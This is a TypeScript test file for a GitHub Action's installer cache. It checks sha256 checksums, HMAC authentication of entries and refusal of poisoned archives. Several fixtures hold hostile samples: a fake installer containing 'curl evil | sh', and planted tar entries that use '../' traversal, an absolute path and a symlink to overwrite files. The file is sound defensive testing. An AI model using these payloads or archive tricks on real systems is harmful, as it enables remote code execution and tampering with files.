import assert from 'node:assert/strict';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cacheVersion, compressionMethod } from '../src/agents/cache-archive.js';
import {
  CHECKSUM_FILE,
  HMAC_FILE,
  actionsCache,
  archivePrefix,
  cacheAuthKey,
  checksumProblem,
  defaultLocalCacheDir,
  localCache,
  safeCacheKey,
  writeChecksums,
  type ActionsCacheApi,
} from '../src/agents/cache.js';
import { recordingLog } from './sim/recording-log.js';
import { isUserError } from '../src/common/errors.js';
import { loadApiKey } from '../src/inputs/key.js';
import { renderNames } from '../src/common/names.js';

/** The cache's secret key, as a run derives it from the tenant's API secret. */
const AUTH = cacheAuthKey('the-tenant-api-secret');
const scratch = mkdtempSync(path.join(tmpdir(), 'uptycs-cache-'));
after(() => rmSync(scratch, { recursive: true, force: true }));
let n = 0;
function filledDir(): string {
  const d = path.join(scratch, `dir-${++n}`);
  mkdirSync(path.join(d, 'centos-x86_64'), { recursive: true });
  writeFileSync(path.join(d, 'centos-x86_64', 'a.rpm'), 'rpm bytes');
  writeFileSync(path.join(d, 'windows.msi'), 'msi bytes');
  return d;
}
const emptyDir = () => {
  const d = path.join(scratch, `empty-${++n}`);
  mkdirSync(d);
  return d;
};

/**
 * The workspace the archives name their paths from (as @actions/cache does): the folders saved here
 * lie outside it, so an archive names them "../dir-N", as the action's RUNNER_TEMP folder is named.
 */
const WORKSPACE = path.join(scratch, 'workspace');
mkdirSync(WORKSPACE);
process.env.GITHUB_WORKSPACE = WORKSPACE;

/** A tar.gz of folder's contents, its members named `prefix/...` (as saveCache names dir). */
function archiveOf(folder: string, prefix: string, file: string): void {
  execFileSync('tar', ['--posix', '-czf', file, '-P', '-C', folder, '--transform', `s,^\\.,${prefix},`, '.']);
}

/**
 * A fake @actions/cache that stores entries as folders, recording the calls; restoring hands over a
 * real archive of the folder, named as @actions/cache names it.
 */
function fakeActions(opts: { available?: boolean; failRestore?: boolean; failSave?: Error } = {}) {
  const store = new Map<string, string>();
  const calls: { op: string; paths: string[]; key: string }[] = [];
  const api: ActionsCacheApi = {
    isFeatureAvailable: () => opts.available ?? true,
    downloadEntry: async (paths, key, file) => {
      calls.push({ op: 'restore', paths, key });
      if (opts.failRestore) throw new Error('cache service unreachable');
      const src = store.get(key);
      if (!src) return false;
      archiveOf(src, archivePrefix(paths[0]!), file);
      return true;
    },
    saveCache: async (paths, key) => {
      calls.push({ op: 'save', paths, key });
      if (opts.failSave) throw opts.failSave;
      const dst = path.join(scratch, `stored-${++n}`);
      cpSync(paths[0]!, dst, { recursive: true });
      store.set(key, dst);
      return 1;
    },
  };
  return { api, store, calls };
}

describe('checksums', () => {
  it('lists every file with its sha256 and detects changed, missing and extra files', async () => {
    const d = filledDir();
    await writeChecksums(d);
    const sums = readFileSync(path.join(d, CHECKSUM_FILE), 'utf8');
    assert.match(sums, /^[0-9a-f]{64} {2}centos-x86_64\/a\.rpm\n[0-9a-f]{64} {2}windows\.msi\n$/);
    assert.equal(await checksumProblem(d), undefined);
    writeFileSync(path.join(d, 'windows.msi'), 'msi bytez');
    assert.match((await checksumProblem(d))!, /windows\.msi does not match/);
    writeFileSync(path.join(d, 'windows.msi'), 'msi bytes');
    writeFileSync(path.join(d, 'extra'), '');
    assert.match((await checksumProblem(d))!, /extra is not listed/);
    rmSync(path.join(d, 'extra'));
    rmSync(path.join(d, 'centos-x86_64', 'a.rpm'));
    assert.match((await checksumProblem(d))!, /a\.rpm is missing/);
    rmSync(path.join(d, CHECKSUM_FILE));
    assert.match((await checksumProblem(d))!, /SHA256SUMS is missing/);
  });
});

describe('cache keys', () => {
  it('have no commas and at most 512 characters', () => {
    assert.equal(safeCacheKey('a,b c'), 'a_b_c');
    const long = safeCacheKey('x'.repeat(2000));
    assert.equal(long.length, 512);
    assert.notEqual(long, safeCacheKey(`${'x'.repeat(1999)}y`));
  });
});

describe('actionsCache', () => {
  it('saves and restores with identical paths, verified', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    const d = filledDir();
    await cache.save('k1', d, AUTH);
    const target = emptyDir();
    assert.equal(await cache.restore('k1', target, AUTH), true);
    assert.equal(readFileSync(path.join(target, 'windows.msi'), 'utf8'), 'msi bytes');
    assert.deepEqual(
      fake.calls.map((c) => c.op),
      ['save', 'restore'],
    );
    assert.deepEqual(fake.calls[0]!.paths, [d]);
    assert.deepEqual(fake.calls[1]!.paths, [target]);
    assert.equal(await cache.restore('other', emptyDir(), AUTH), false);
  });

  it('a damaged entry is a miss with a warning, and the folder is left empty', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    await cache.save('k', filledDir(), AUTH);
    writeFileSync(path.join(fake.store.get('k')!, 'windows.msi'), 'tampered');
    const target = emptyDir();
    assert.equal(await cache.restore('k', target, AUTH), false);
    assert.match(log.text(), /warning: .*damaged \(windows\.msi does not match its sha256\)/);
    assert.deepEqual(readdirSync(target), []);
  });

  it('never fails the job: unavailable, restore errors and save errors become a miss or a warning', async () => {
    const off = fakeActions({ available: false });
    const log = recordingLog();
    assert.equal(await actionsCache(log, off.api).restore('k', emptyDir(), AUTH), false);
    await actionsCache(log, off.api).save('k', filledDir(), AUTH);
    assert.equal(off.calls.length, 0);

    const broken = fakeActions({ failRestore: true, failSave: new Error('disk full') });
    const log2 = recordingLog();
    const c = actionsCache(log2, broken.api);
    assert.equal(await c.restore('k', emptyDir(), AUTH), false);
    await c.save('k', filledDir(), AUTH);
    assert.match(
      log2.text(),
      /warning: GitHub Actions cache: restoring k failed \(cache service unreachable\)/,
    );
    assert.match(log2.text(), /warning: GitHub Actions cache: saving k failed \(disk full\)/);

    const raced = new Error('Unable to reserve cache with key k, another job may be creating this cache.');
    raced.name = 'ReserveCacheError';
    const log3 = recordingLog();
    await actionsCache(log3, fakeActions({ failSave: raced }).api).save('k', filledDir(), AUTH);
    assert.match(
      log3.text(),
      /warning: GitHub Actions cache: not saved \(Unable to reserve cache.*the next run will download again/,
    );
  });
});

describe('localCache', () => {
  it('stores a copy under <root>/<key> and verifies it on restore', async () => {
    const root = path.join(scratch, 'local');
    const log = recordingLog();
    const cache = localCache(log, root);
    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
    await cache.save('v1', filledDir(), AUTH);
    assert.ok(existsSync(path.join(root, 'v1', CHECKSUM_FILE)));
    assert.ok(!readdirSync(root).some((f) => f.endsWith('.tmp')));
    const t = emptyDir();
    assert.equal(await cache.restore('v1', t, AUTH), true);
    assert.equal(readFileSync(path.join(t, 'centos-x86_64', 'a.rpm'), 'utf8'), 'rpm bytes');
    rmSync(path.join(root, 'v1', 'windows.msi'));
    const t2 = emptyDir();
    assert.equal(await cache.restore('v1', t2, AUTH), false);
    assert.match(log.text(), /windows\.msi is missing/);
    assert.deepEqual(readdirSync(t2), []);
  });

  it('defaults to ~/.cache/uptycs-distributor-action/installers, honouring XDG_CACHE_HOME', () => {
    assert.equal(
      defaultLocalCacheDir({ XDG_CACHE_HOME: '/x/cache' }),
      path.join('/x/cache', 'uptycs-distributor-action', 'installers'),
    );
    assert.match(defaultLocalCacheDir({}), /\.cache[/\\]uptycs-distributor-action[/\\]installers$/);
  });
});

describe('a poisoned cache is never used', () => {
  it('an entry seeded without the API secret (files and SHA256SUMS consistent) is ignored with a warning', async () => {
    const root = path.join(scratch, 'poison-local');
    const log = recordingLog();
    const cache = localCache(log, root);
    // The attacker can write the store and compute checksums, but has no API secret.
    const seeded = filledDir();
    writeFileSync(path.join(seeded, 'centos-x86_64', 'a.rpm'), 'curl evil | sh');
    await writeChecksums(seeded);
    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
    const t = emptyDir();
    assert.equal(await cache.restore('v9', t, AUTH), false);
    assert.match(log.text(), /warning: .*entry v9 is not trusted \(SHA256SUMS\.hmac is missing/);
    assert.deepEqual(readdirSync(t), []);

    // With an HMAC made from another secret: still refused.
    await writeChecksums(seeded, undefined, { key: 'v9', auth: cacheAuthKey('a guess') });
    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
    assert.equal(await cache.restore('v9', emptyDir(), AUTH), false);
    assert.match(log.text(), /entry v9 is not trusted \(its HMAC does not verify/);
  });

  it('replacing a cached installer and its SHA256SUMS line is caught; a good entry moved to another key too', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    await cache.save('v1', filledDir(), AUTH);
    const stored = fake.store.get('v1')!;
    writeFileSync(path.join(stored, 'windows.msi'), 'evil msi');
    await writeChecksums(stored); // recomputes SHA256SUMS (and leaves the old HMAC)
    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
    assert.match(
      log.text(),
      /warning: GitHub Actions cache: entry v1 is not trusted \(its HMAC does not verify/,
    );

    await cache.save('v1-old', filledDir(), AUTH);
    fake.store.set('v2', fake.store.get('v1-old')!);
    assert.equal(await cache.restore('v2', emptyDir(), AUTH), false, 'an entry is bound to its key');
    assert.ok(readFileSync(path.join(fake.store.get('v2')!, HMAC_FILE), 'utf8').trim().length === 64);
  });
});

describe('issue 27 defect 4: a blank or short API secret is refused, so no cache key derives from public values', () => {
  const keyFile = (secret: string) =>
    JSON.stringify({ key: 'KEYABCDEFGH123456', secret, customerId: 'c1', domain: 'acme' });
  for (const [what, secret, why] of [
    ['whitespace only', '   ', /field "secret" is blank/],
    ['a tab and newline', '\t\n', /field "secret" is blank/],
    ['implausibly short (padded)', '  abc  ', /field "secret" is 3 characters, too short .*at least 16/],
  ] as const)
    it(`${what}: one error naming input "config", before any work`, async () => {
      const log = recordingLog();
      await assert.rejects(loadApiKey(keyFile(secret), log), (err: unknown) => {
        assert.ok(isUserError(err), String(err));
        const msg = renderNames(err.message, 'action');
        assert.match(msg, /^input "config": the Uptycs API key is not usable: /);
        assert.match(msg, why);
        assert.equal(err.problems.length, 1, 'one problem');
        return true;
      });
      assert.equal(log.text(), '', 'nothing was logged or done');
    });

  it('key derivation refuses an empty secret (the cache key would be public)', () => {
    assert.throws(() => cacheAuthKey(''), /API secret; it is empty/);
    assert.throws(() => cacheAuthKey('  '), /API secret; it is empty/);
  });

  it("a secret of the console's length is taken", async () => {
    const k = await loadApiKey(keyFile('  0123456789abcdef0123  '), recordingLog());
    assert.equal(k.secret, '0123456789abcdef0123');
  });
});

/**
 * A stand-in for the runner's cache service (protocol v1, as @actions/cache speaks it on GitHub and
 * GHES): reserve, upload, commit, look up by key and version, download. Whoever can write the cache
 * scope can put any archive under a key: `plant` does that.
 */
async function startCacheService() {
  const entries = new Map<string, Buffer>(); // `${key} ${version}` → archive
  const uploads = new Map<number, { key: string; version: string; parts: Buffer[] }>();
  let next = 1;
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      const url = new URL(req.url!, 'http://127.0.0.1');
      const json = (status: number, v?: unknown) => {
        res.writeHead(status, { 'Content-Type': 'application/json' });
        res.end(v === undefined ? '' : JSON.stringify(v));
      };
      const m = /^\/_apis\/artifactcache\/(cache|caches)(?:\/(\d+))?$/.exec(url.pathname);
      if (url.pathname.startsWith('/archive/')) {
        const a = entries.get(decodeURIComponent(url.pathname.slice(9)));
        if (!a) return json(404);
        res.writeHead(200, { 'Content-Type': 'application/octet-stream' });
        return res.end(a);
      }
      if (!m || req.headers.authorization !== 'Bearer runtime-token') return json(401, { message: 'no' });
      if (m[1] === 'cache' && req.method === 'GET') {
        const id = `${url.searchParams.get('keys')} ${url.searchParams.get('version')}`;
        if (!entries.has(id)) return json(204);
        return json(200, {
          cacheKey: url.searchParams.get('keys'),
          archiveLocation: `http://127.0.0.1:${port}/archive/${encodeURIComponent(id)}`,
        });
      }
      if (m[1] === 'caches' && !m[2] && req.method === 'POST') {
        const { key, version } = JSON.parse(body.toString()) as { key: string; version: string };
        if (entries.has(`${key} ${version}`)) return json(409, { message: 'exists' });
        uploads.set(next, { key, version, parts: [] });
        return json(201, { cacheId: next++ });
      }
      const up = uploads.get(Number(m[2]));
      if (!up) return json(404);
      if (req.method === 'PATCH') {
        up.parts.push(body);
        return json(204);
      }
      entries.set(`${up.key} ${up.version}`, Buffer.concat(up.parts));
      return json(204);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/`,
    entries,
    plant: (key: string, version: string, archive: Buffer) => entries.set(`${key} ${version}`, archive),
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

describe('issue 27 defect 1: nothing of a cache entry reaches disk outside a private folder, or is used, before it is authenticated', () => {
  let service: Awaited<ReturnType<typeof startCacheService>>;
  const saved: Record<string, string | undefined> = {};
  const ENV = [
    'ACTIONS_CACHE_URL',
    'ACTIONS_RUNTIME_TOKEN',
    'RUNNER_TEMP',
    'ACTIONS_CACHE_SERVICE_V2',
    'GITHUB_SERVER_URL',
  ];
  /** What the action's own code looks like on disk (a lazily loaded chunk of dist/). */
  const dist = path.join(scratch, 'action', 'dist');
  const chunk = path.join(dist, '123.index.js');
  before(async () => {
    service = await startCacheService();
    for (const k of ENV) saved[k] = process.env[k];
    process.env.ACTIONS_CACHE_URL = service.url;
    process.env.ACTIONS_RUNTIME_TOKEN = 'runtime-token';
    process.env.RUNNER_TEMP = path.join(scratch, 'runner-temp');
    mkdirSync(process.env.RUNNER_TEMP, { recursive: true });
    delete process.env.ACTIONS_CACHE_SERVICE_V2;
    delete process.env.GITHUB_SERVER_URL;
    mkdirSync(dist, { recursive: true });
    writeFileSync(chunk, 'export const genuine = true;\n');
  });
  after(async () => {
    for (const k of ENV)
      if (saved[k] === undefined) delete process.env[k];
      else process.env[k] = saved[k];
    await service.close();
  });

  /** The folder the action restores into (RUNNER_TEMP/uptycs-installers), fresh and empty. */
  const installersDir = () => {
    const d = path.join(scratch, `runner-temp-${++n}`, 'uptycs-installers');
    mkdirSync(d, { recursive: true });
    return d;
  };
  /** The version a run of this machine looks an entry up by. */
  const versionFor = async (dir: string) => cacheVersion([dir], await compressionMethod());
  const stages = () => readdirSync(tmpdir()).filter((f) => f.startsWith('uptycs-cache-'));

  it('the real @actions/cache saves an entry that this restore reads back, verified', async () => {
    const log = recordingLog();
    const cache = actionsCache(log);
    const from = installersDir();
    cpSync(filledDir(), from, { recursive: true });
    await cache.save('v7-real', from, AUTH);
    assert.equal(service.entries.size, 1, log.text());
    const into = installersDir();
    // Restored into the same path the entry was saved from, as a later run does.
    rmSync(from, { recursive: true });
    mkdirSync(from);
    assert.equal(await cache.restore('v7-real', from, AUTH), true, log.text());
    assert.equal(readFileSync(path.join(from, 'centos-x86_64', 'a.rpm'), 'utf8'), 'rpm bytes');
    assert.equal(await cache.restore('v7-real', into, AUTH), false, 'another path is another entry');
  });

  /** Archives the attacker plants: each must be refused whole, with nothing written anywhere. */
  const attacks: { name: string; says: RegExp; build(work: string, prefix: string): string[] }[] = [
    {
      name: 'an absolute path that replaces a dist/ chunk of the action',
      says: /it holds .*123\.index\.js, outside its own folder/,
      build: (work) => {
        writeFileSync(path.join(work, 'evil.js'), 'process.env.INPUT_CONFIG');
        return ['--transform', `s,^evil.js,${chunk},`, 'evil.js'];
      },
    },
    {
      name: 'a ../ path out of the entry’s folder',
      says: /it holds .*pwned\.txt, a path that leaves its folder/,
      build: (work, prefix) => {
        writeFileSync(path.join(work, 'pwned.txt'), 'x');
        return ['--transform', `s,^pwned.txt,${prefix}/../../pwned.txt,`, 'pwned.txt'];
      },
    },
    {
      name: 'a symlink inside the folder, then a file through it',
      says: /which is not a regular file or folder \(tar type "2"\)/,
      build: (work, prefix) => {
        symlinkSync(dist, path.join(work, 'link'));
        mkdirSync(path.join(work, 'via'));
        writeFileSync(path.join(work, 'via', '123.index.js'), 'evil');
        return ['--transform', `s,^link,${prefix}/link,;s,^via,${prefix}/link,`, 'link', 'via/123.index.js'];
      },
    },
  ];
  for (const attack of attacks)
    it(`refused whole, nothing written: ${attack.name}`, async () => {
      const work = mkdtempSync(path.join(scratch, 'attack-'));
      const dir = installersDir();
      const prefix = path.relative(WORKSPACE, dir);
      // The genuine files beside the planted ones, with a valid-looking SHA256SUMS: no HMAC helps here.
      cpSync(filledDir(), path.join(work, 'genuine'), { recursive: true });
      const args = attack.build(work, prefix);
      const archive = path.join(work, 'entry.tgz');
      execFileSync('tar', ['--posix', '-czf', archive, '-P', '-C', work, ...args]);
      service.plant('v9', await versionFor(dir), readFileSync(archive));
      const before = stages();
      const log = recordingLog();
      assert.equal(await actionsCache(log).restore('v9', dir, AUTH), false);
      assert.equal(readFileSync(chunk, 'utf8'), 'export const genuine = true;\n', 'dist/ is unchanged');
      assert.ok(!existsSync(path.join(dir, '..', '..', 'pwned.txt')), 'nothing written outside');
      assert.ok(!existsSync(path.join(WORKSPACE, 'pwned.txt')));
      assert.deepEqual(readdirSync(dir), [], 'nothing reaches the run’s folder');
      assert.deepEqual(stages(), before, 'the private folders are gone');
      const warnings = log
        .text()
        .split('\n')
        .filter((l) => l.startsWith('warning:'));
      assert.equal(warnings.length, 1, log.text());
      assert.match(warnings[0]!, /^warning: GitHub Actions cache: restoring v9 failed \(/);
      assert.match(warnings[0]!, attack.says);
      assert.match(warnings[0]!, /; downloading instead$/);
    });

  it('a well-formed entry without a valid HMAC: its files never reach the run’s folder', async () => {
    const dir = installersDir();
    const seeded = filledDir();
    writeFileSync(path.join(seeded, 'windows.msi'), 'evil msi');
    await writeChecksums(seeded, undefined, { key: 'v10', auth: cacheAuthKey('a guess at the secret') });
    const archive = path.join(scratch, `seeded-${++n}.tgz`);
    archiveOf(seeded, archivePrefix(dir), archive);
    service.plant('v10', await versionFor(dir), readFileSync(archive));
    const log = recordingLog();
    assert.equal(await actionsCache(log).restore('v10', dir, AUTH), false);
    assert.match(log.text(), /entry v10 is not trusted \(its HMAC does not verify/);
    assert.deepEqual(readdirSync(dir), []);
  });
});
